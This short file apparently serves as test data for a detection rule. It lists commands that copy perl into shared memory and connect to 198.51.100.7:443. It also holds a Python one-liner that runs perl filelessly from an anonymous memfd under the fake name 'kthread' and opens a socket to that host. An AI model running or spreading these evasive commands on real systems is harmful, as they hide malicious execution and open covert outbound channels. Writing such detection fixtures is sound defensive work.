# SPDX-License-Identifier: Apache-2.0
# hits: 2
cp /usr/bin/perl /dev/shm/x
dial /dev/shm/x 198.51.100.7 443
python3 -c 'import os; m = os.memfd_create("ghost"); os.write(m, open("/usr/bin/perl", "rb").read()); os.execve(m, ["kthread", "-MSocket", "-e", "socket(S, AF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(443, inet_aton(\"198.51.100.7\")))"], {})'
